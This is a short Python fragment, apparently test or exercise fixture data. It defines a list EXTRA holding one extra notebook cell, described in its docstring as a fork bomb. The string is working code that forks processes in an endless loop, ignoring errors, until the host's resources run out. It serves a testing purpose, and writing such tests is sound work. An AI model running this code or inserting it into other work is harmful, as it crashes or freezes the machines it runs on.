"""A fork bomb in a cell of its own. The exercises are right."""

EXTRA = ["import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"]
